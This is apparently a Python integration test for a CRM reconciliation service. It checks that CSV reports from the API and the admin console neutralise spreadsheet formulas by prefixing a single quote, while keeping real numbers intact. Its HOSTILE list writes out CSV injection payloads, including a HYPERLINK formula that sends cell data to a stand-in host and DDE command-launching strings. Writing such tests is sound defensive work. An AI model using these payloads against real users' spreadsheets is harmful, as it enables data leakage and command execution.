"""report.csv, from the API and from the console, never hands a spreadsheet a formula: a CRM
value starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading
single quote (OWASP's rule), while genuine numbers stay numbers."""

from __future__ import annotations

import csv
import io

import httpx

from app.main import create_app
from app.store import reconciliation as runs
from app.store.reconciliation import Checkpoint, RunRecord
from app.sync.reconcile.categories import Category, Finding, FixAction
from tests.conftest import Database
from tests.integration.admin_support import admin_settings, sign_in
from tests.support import api_only_settings, running

TOKEN = "operator-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}

# (what a CRM user typed, what the spreadsheet must receive)
HOSTILE = [
    (
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
    ),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1-2", "'+1-2"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]
NUMBERS = ["-12.5", "+3", "42", "-0.5e3", "1234.50"]


async def _run_with_hostile_values(db: Database) -> RunRecord:
    run = await runs.start_run(
        db.engine, mode="dry_run", trigger="api", owner="elsewhere", lease_seconds=30
    )
    assert run is not None
    findings = [
        Finding(
            Category.DRIFT,
            f"c-{n}",
            "9001",
            ban=hostile,
            fields=[{"field": "name", "warp": "Acme", "hubspot": hostile, "decision": "WARP wins"}],
            action=FixAction.SYNC,
            detail=hostile,
        )
        for n, (hostile, _) in enumerate(HOSTILE)
    ] + [
        Finding(
            Category.DRIFT,
            f"n-{n}",
            "9002",
            ban="ZT-1",
            fields=[{"field": "balance", "warp": number, "hubspot": "0", "decision": "WARP wins"}],
            action=FixAction.SYNC,
        )
        for n, number in enumerate(NUMBERS)
    ]
    async with db.engine.begin() as connection:
        await runs.add_items(connection, run.id, [f.item() for f in findings])
        counts = {"drift": len(findings)}
        await runs.save_checkpoint(
            connection, run.id, "elsewhere", Checkpoint("done", None, None, counts, 1, 0), 30
        )
    done = await runs.finish_run(db.engine, run.id, "elsewhere", status="done", report={})
    assert done is not None
    return done


def _check(text: str, run_id: int) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + len(NUMBERS)
    by_customer = {row["warp_customer_id"]: row for row in rows}
    for n, (_, safe) in enumerate(HOSTILE):
        row = by_customer[f"c-{n}"]
        assert row["warp_ban"] == safe
        assert row["hubspot_value"] == safe
        assert row["detail"] == safe
        assert row["warp_value"] == "Acme"
    for n, number in enumerate(NUMBERS):
        assert by_customer[f"n-{n}"]["warp_value"] == number  # a number stays a number
    for row in rows:
        assert row["run_id"] == str(run_id)
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") or cell in NUMBERS
            assert not cell.startswith("-") or cell in NUMBERS


async def test_the_api_report_neutralises_formulas(db: Database) -> None:
    run = await _run_with_hostile_values(db)
    async with running(create_app(api_only_settings(db.env, TOKEN))) as client:
        report = await client.get(f"/v1/reconciliation/runs/{run.id}/report.csv", headers=AUTH)
    assert report.status_code == 200
    _check(report.text, run.id)


async def test_the_console_report_neutralises_formulas(db: Database) -> None:
    run = await _run_with_hostile_values(db)
    settings = admin_settings(db, HUBSYNC_DEMO_DATA="false")
    async with running(create_app(settings)) as client:
        await sign_in(client)
        report: httpx.Response = await client.get(f"/admin/reconciliation/{run.id}/report.csv")
    assert report.status_code == 200
    _check(report.text, run.id)
